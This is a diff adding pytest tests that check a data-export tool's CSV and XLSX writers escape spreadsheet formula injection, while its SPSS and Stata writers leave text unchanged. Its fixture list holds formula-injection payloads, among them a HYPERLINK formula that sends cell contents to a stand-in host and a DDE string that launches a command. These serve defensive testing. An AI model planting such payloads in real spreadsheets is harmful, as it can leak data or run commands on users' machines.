@@ -106,3 +106,33 @@ def test_command_line_runs_on_a_csv(tmp_path, sipas):
     result = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, check=False)
     assert result.returncode == 0, result.stderr
     assert (tmp_path / "o" / "index.html").is_file()
+
+
+INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+1+cmd|' /C calc'!A0", "-2+3",
+              "@SUM(A1:A9)", "\t=1+1"]
+
+
+def test_csv_and_xlsx_escape_formulas_but_not_numbers(tmp_path):
+    """Text that a spreadsheet would run (=, +, -, @, tab) gets a leading quote; numbers stay numbers."""
+    table = pd.DataFrame({"unit_name": INJECTIONS + ["Xã -1", "-1.5"],
+                          "estimate": [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]})
+    write_csv(table, tmp_path / "t.csv")
+    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype={"unit_name": str})
+    assert list(back["unit_name"]) == ["'" + v for v in INJECTIONS] + ["Xã -1", "-1.5"]
+    assert list(back["estimate"]) == [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]
+    write_xlsx({"t": table}, tmp_path / "t.xlsx")
+    ws = load_workbook(tmp_path / "t.xlsx")["t"]
+    cells = [row for row in ws.iter_rows(min_row=2, values_only=True)]
+    assert [c[0] for c in cells] == ["'" + v for v in INJECTIONS] + ["Xã -1", "-1.5"]
+    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 9))
+    assert [c[1] for c in cells] == [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0, 6.0]
+
+
+def test_sav_and_dta_keep_text_as_it_is(tmp_path):
+    """SPSS and Stata files are not spreadsheets: free text is written unchanged."""
+    data = pd.DataFrame({"note": ["=1+1", "-x"], "age": [-1.5, 2.0]})
+    write_sav(data, [], tmp_path / "t.sav")
+    write_dta(data, [], tmp_path / "t.dta")
+    for name, reader in (("t.sav", pyreadstat.read_sav), ("t.dta", pyreadstat.read_dta)):
+        frame, _meta = reader(str(tmp_path / name))
+        assert list(frame["note"]) == ["=1+1", "-x"] and list(frame["age"]) == [-1.5, 2.0]
